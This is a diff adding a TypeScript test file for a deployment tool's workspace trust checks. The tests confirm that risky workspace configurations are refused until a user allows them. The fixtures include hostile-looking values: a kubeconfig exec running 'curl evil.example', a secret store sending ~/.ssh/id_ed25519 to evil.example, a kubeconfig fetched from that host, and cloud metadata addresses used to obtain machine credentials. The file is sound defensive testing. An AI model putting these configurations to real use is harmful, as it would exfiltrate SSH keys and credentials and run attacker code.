@@ -1,0 +1,238 @@
+import {chmod, mkdir, writeFile} from 'node:fs/promises';
+import {describe, expect, it} from 'vitest';
+import {allowWorkspace} from '../../../../src/app/trust/allow-workspace.ts';
+import {allowedDigests} from '../../../../src/app/trust/allowed-digests.ts';
+import {requireConsent} from '../../../../src/app/trust/require-consent.ts';
+import {wantsOfWorkspace} from '../../../../src/app/trust/wants-of.ts';
+import {findWorkspace} from '../../../../src/app/workspace/find-workspace.ts';
+import {digestOfWants} from '../../../../src/core/trust/want.ts';
+import {failureOf, rig} from '../workspace/rig.ts';
+
+const PROD = 'project/workspaces/prod.yaml';
+const STORE = 'secretStore: {provider: {exec: {command: [sh, ./get.sh]}}}\ntrust: {programs: [sh]}\n';
+
+/** A home and a project, with the real list of what was allowed. */
+async function world(files: Readonly<Record<string, string>>, more: Parameters<typeof rig>[0] = {files: {}}) {
+  const made = await rig({...more, files: {'project/project.yaml': 'name: shop\n', ...files}});
+  const env = {...made.deps.env, ...more.env};
+  const deps = {...made.deps, env, allowedDigests: async () => allowedDigests({env, cwd: made.deps.cwd})};
+  const find = async (name = 'prod') =>
+    findWorkspace({
+      wanted: name,
+      base: deps.cwd,
+      backend: await deps.backend(),
+      directory: made.path('project/workspaces'),
+    });
+  const used = async (name?: string) => requireConsent(await find(name), deps);
+  const allow = (yes = true, branches?: readonly string[]) =>
+    allowWorkspace({workspace: 'prod', confirm: async () => yes, ...(branches === undefined ? {} : {branches})}, deps);
+  return {...made, deps, find, used, allow};
+}
+
+const refused = async (work: Promise<unknown>) => {
+  const failure = await failureOf(work);
+  if (failure.code !== 'workspace/not-allowed') throw new Error(failure.code);
+  return failure;
+};
+
+describe('a workspace of a project', () => {
+  it.each([
+    {name: 'names no cluster', text: 'labels: {tier: prod}\n'},
+    {name: 'is of the sandbox', text: 'context: {cluster: sandbox}\n'},
+    {name: 'leads to a kubeconfig of the user', text: 'context: {kubeconfig_path: ~/.kube/prod, kube_context: prod}\n'},
+    {name: 'gives plain keys of a provider', text: 'context: {AWS_REGION: eu-west-1}\nenv: {TF_VAR_size: "3"}\n'},
+    {name: 'gives variables of its project', text: 'env: {PROJECT_MODE: fast}\n'},
+    {name: 'reads secrets in files of its project', text: 'secretStore: {provider: {file: {path: ../secrets}}}\n'},
+  ])('that $name is used as it is', async ({text}) => {
+    const {used, allow} = await world({[PROD]: text});
+    await expect(used()).resolves.toBeUndefined();
+    expect((await allow()).parts).toEqual([]);
+  });
+
+  const kubeconfig = (user: string) =>
+    `apiVersion: v1\\nkind: Config\\ncurrent-context: c\\nclusters: [{name: c, cluster: {server: 'https://evil.example'}}]\\n` +
+    `users: [{name: u, user: {${user}}}]\\ncontexts: [{name: c, context: {cluster: c, user: u}}]\\n`;
+
+  it.each([
+    {name: 'a program of a store', text: STORE, wants: /runs sh \.\/get\.sh/},
+    {
+      name: 'a program of the kubeconfig that it holds',
+      text: `context: {kubeconfig_content: "${kubeconfig('exec: {apiVersion: client.authentication.k8s.io/v1, command: curl, args: [evil.example], interactiveMode: Never}')}"}\n`,
+      wants: /it would run the program curl evil\.example/,
+    },
+    {
+      name: 'a file outside of the project',
+      text: 'secretStore: {provider: {file: {path: ~/.ssh}}}\n',
+      wants: /reads ~\/\.ssh/,
+    },
+    {
+      name: 'a file that is sent to a server',
+      text: 'secretStore: {provider: {vault: {server: "https://evil.example", auth: {jwt: {role: r, tokenFile: ~/.ssh/id_ed25519}}}}}\n',
+      wants: /sends to https:\/\/evil\.example the file ~\/\.ssh\/id_ed25519/,
+    },
+    {name: 'the environment', text: 'secretStore: {provider: {env: {}}}\n', wants: /any variable of the environment/},
+    {
+      name: 'a server that gets a token',
+      text: 'secretStore: {provider: {vault: {server: "https://evil.example"}}}\n',
+      wants: /asks https:\/\/evil\.example, with VAULT_TOKEN/,
+    },
+    {
+      name: 'keys of Google that name a file and a server',
+      text: 'context: {GOOGLE_CREDENTIALS: \'{"type": "external_account"}\'}\n',
+      wants: /sets GOOGLE_CREDENTIALS/,
+    },
+    {name: 'a configuration of AWS', text: 'env: {AWS_CONFIG_FILE: ./aws}\n', wants: /sets AWS_CONFIG_FILE/},
+    {
+      name: 'a login that its cluster is shown',
+      text: 'identity: {oidc: {issuer: "https://login.example", clientId: k8s}}\n',
+      wants: /logs in at https:\/\/login\.example/,
+    },
+    {
+      name: 'a kubeconfig that is fetched',
+      text: 'context: {kubeconfig_path: "https://evil.example/k"}\n',
+      wants: /fetches its kubeconfig from https:\/\/evil\.example\/k/,
+    },
+    {name: 'to trust programs', text: 'trust: {programs: [git]}\n', wants: /lets a fetched kubeconfig run git/},
+  ])('that wants $name is refused, and says how it is allowed', async ({text, wants}) => {
+    const {used, allow} = await world({[PROD]: text});
+    const failure = await refused(used());
+    expect(failure.wants.join('\n')).toMatch(wants);
+    expect(failure.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
+    expect((await allow(false)).parts).toMatchObject([{outcome: 'declined'}]);
+    await refused(used());
+    expect((await allow()).parts).toMatchObject([{outcome: 'allowed', digest: failure.digest}]);
+    await expect(used()).resolves.toBeUndefined();
+    expect((await allow()).parts).toMatchObject([{outcome: 'already-allowed'}]);
+  });
+
+  it('is asked for again when it changes, with what is new and what is gone', async () => {
+    const {used, allow, path} = await world({[PROD]: STORE});
+    await allow();
+    await writeFile(path(PROD), STORE.replace('./get.sh', './other.sh'));
+    expect(await refused(used())).toMatchObject({
+      changed: {added: [expect.stringContaining('./other.sh')], removed: [expect.stringContaining('./get.sh')]},
+    });
+  });
+
+  it('is asked for again when a script of the project changes that it runs', async () => {
+    const {used, allow, path} = await world({[PROD]: STORE, 'project/workspaces/get.sh': 'echo 1\n'});
+    await allow();
+    await expect(used()).resolves.toBeUndefined();
+    await writeFile(path('project/workspaces/get.sh'), 'curl evil.example\n');
+    await refused(used());
+  });
+
+  it('sends the values of secrets to the server that was allowed, and to no other', async () => {
+    const text = (server: string) =>
+      `context: {kubeconfig_path: ../kubeconfig}\nsecretStore: {provider: {env: {prefix: SHOP_}}}\n# ${server}\n`;
+    const held = (server: string) =>
+      `clusters: [{name: c, cluster: {server: "https://${server}"}}]\nusers: [{name: u, user: {}}]\n` +
+      'contexts: [{name: c, context: {cluster: c, user: u}}]\ncurrent-context: c\n';
+    const {used, allow, path} = await world({[PROD]: text('a'), 'project/kubeconfig': held('good.example')});
+    await allow();
+    await expect(used()).resolves.toBeUndefined();
+    await writeFile(path('project/kubeconfig'), held('evil.example'));
+    expect((await refused(used())).changed?.added.join()).toContain('https://evil.example');
+  });
+
+  it('is allowed by its digest in GANTRY_ALLOW, or in a file that it names', async () => {
+    const {deps, find, used} = await world({[PROD]: STORE, 'project/allowed': ''});
+    const {digest = ''} = await refused(used());
+    expect(digest).toBe(digestOfWants(await wantsOfWorkspace(await find(), deps)));
+    for (const said of [digest, `sha256:${'0'.repeat(64)}, ${digest}`, './allowed']) {
+      const other = await world(
+        {[PROD]: STORE, 'project/allowed': `# prod\n${digest}  # of the store\n`},
+        {files: {}, env: {GANTRY_ALLOW: said}},
+      );
+      await expect(other.used()).resolves.toBeUndefined();
+    }
+    const wrong = await world({[PROD]: STORE}, {files: {}, env: {GANTRY_ALLOW: 'sha256:12'}});
+    expect(await failureOf(wrong.used())).toMatchObject({code: 'input/usage'});
+  });
+
+  it('is allowed on a branch of its repository, whatever it says there, and nowhere else', async () => {
+    const {used, allow, path} = await world({[PROD]: STORE});
+    const git = async (branch: string, url = 'https://git.example/acme/shop.git') => {
+      await writeFile(path('project/.git/HEAD'), `ref: refs/heads/${branch}\n`);
+      await writeFile(path('project/.git/config'), `[remote "origin"]\n\turl = ${url}\n`);
+    };
+    expect(await failureOf(allow(true, ['main']))).toMatchObject({code: 'input/usage'});
+    await git('main');
+    await allow(true, ['main']);
+    await writeFile(path(PROD), STORE.replace('./get.sh', './other.sh'));
+    await expect(used()).resolves.toBeUndefined();
+    await git('of-a-stranger');
+    await refused(used());
+    await git('main', 'https://git.example/stranger/shop.git');
+    await refused(used());
+  });
+
+  it('counts with what it extends: the base says it, and the one that is used is asked for', async () => {
+    const {used} = await world({[PROD]: 'extends: base\n', 'project/workspaces/base.yaml': STORE});
+    expect((await refused(used())).workspace).toBe('prod');
+  });
+});
+
+describe('a workspace of the user’s own', () => {
+  it.each(['home/own/prod.yaml', 'home/.gantry/prod.yaml', 'home/.kube/prod.yaml'])(
+    'in %s asks nothing',
+    async (file) => {
+      const {path, deps} = await world({[file]: STORE});
+      const found = await findWorkspace({wanted: path(file), base: deps.cwd, backend: await deps.backend()});
+      await expect(requireConsent(found, deps)).resolves.toBeUndefined();
+    },
+  );
+
+  it('that is a file of a project is the project’s, also by a link', async () => {
+    const {path, deps} = await world({[PROD]: STORE});
+    const found = await findWorkspace({wanted: path(PROD), base: deps.cwd, backend: await deps.backend()});
+    await refused(requireConsent(found, deps));
+  });
+
+  it('is the project’s where stack.yaml names it, wherever it lies', async () => {
+    const {path, deps} = await world({'elsewhere/prod.yaml': STORE});
+    const find = {wanted: path('elsewhere/prod.yaml'), base: deps.cwd, backend: await deps.backend()};
+    await expect(requireConsent(await findWorkspace({...find, from: '-w'}), deps)).resolves.toBeUndefined();
+    await refused(requireConsent(await findWorkspace({...find, from: 'stack.yaml'}), deps));
+  });
+});
+
+describe('a workspace that is kept in a backend', () => {
+  const stored = {prod: STORE};
+
+  it('asks nothing where the backend is the user’s alone', async () => {
+    const {used} = await world({}, {files: {}, stored, isShared: false});
+    await expect(used()).resolves.toBeUndefined();
+  });
+
+  it('asks where others write the backend', async () => {
+    const {used, allow} = await world({}, {files: {}, stored, isShared: true});
+    expect(await refused(used())).toMatchObject({origin: 'shared'});
+    await allow();
+    await expect(used()).resolves.toBeUndefined();
+  });
+
+  it.each(['http://169.254.169.254', 'https://metadata.google.internal', 'https://[fd00:ec2::254]'])(
+    'may never ask %s for the credentials of this machine',
+    async (address) => {
+      const store = `secretStore: {provider: {vault: {server: "${address.replace('http:', 'https:')}"}}}\n`;
+      const {used, allow} = await world({}, {files: {}, stored: {prod: store}, isShared: true});
+      expect(await refused(used())).toMatchObject({never: true});
+      expect(await failureOf(allow())).toMatchObject({code: 'workspace/not-allowed', never: true});
+    },
+  );
+
+  it.each([
+    {mode: 0o700, origin: 'mine'},
+    {mode: 0o770, origin: 'shared'},
+    {mode: 0o707, origin: 'shared'},
+  ])('in a directory of mode $mode is $origin', async ({mode, origin}) => {
+    const made = await world({}, {files: {}, stored, isShared: false});
+    const directory = made.path('srv/state');
+    await mkdir(directory, {recursive: true});
+    await chmod(directory, mode);
+    const backend = {...(await made.deps.backend()), directory};
+    const deps = {...made.deps, backend: async () => backend};
+    expect(await wantsOfWorkspace(await made.find(), deps)).toMatchObject({origin});
+  });
+});
